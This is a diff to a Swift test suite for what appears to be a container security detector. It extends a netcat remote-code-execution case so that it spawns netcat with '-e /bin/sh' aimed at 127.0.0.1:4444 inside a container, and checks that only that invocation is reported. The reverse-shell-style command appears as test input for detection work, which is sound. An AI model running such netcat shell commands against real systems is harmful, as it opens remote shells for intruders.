@@ -108,11 +108,17 @@ enum LibraryBehaviour: String, CaseIterable, Sendable, CustomTestStringConvertib
 
         case .netcatRemoteCodeExecutionInContainer:
             let hostNC = try f.copy(f.trigger, to: "host-\(tag)/nc")
-            let hostPid = try f.spawn(hostNC, ["noop"])
-            let event = try f.inContainer(self, "/bin/nc", ["noop"])
+            let hostPid = try f.spawn(hostNC, ["noop", "-e", "/bin/sh"])
+            // In the container: netcat as a plain client first (not reported), then with -e.
+            let before = Set(f.events(self).map(\.line))
+            _ = try f.container.exec(["/bin/nc", "noop", "127.0.0.1", "80"])
+            let event = try f.inContainer(self, "/bin/nc", ["noop", "-e", "/bin/sh", "127.0.0.1", "4444"])
             #expect(event.filePath == "/bin/nc" || event.binary == "/bin/nc", "\(event.line)")
+            #expect(event.argvArg == "noop -e /bin/sh 127.0.0.1 4444", "\(event.line)")
             f.settle()
             #expect(f.events(self, pid: hostPid).isEmpty, "netcat on the host is not in a container")
+            let fresh = f.events(self).filter { !before.contains($0.line) }
+            #expect(fresh.count == 1, "netcat as a plain client is not reported: \(fresh.map(\.line))")
 
         case .clearLogActivities:
             // A log of the test's own, by a well-known name: truncated, not a real log.
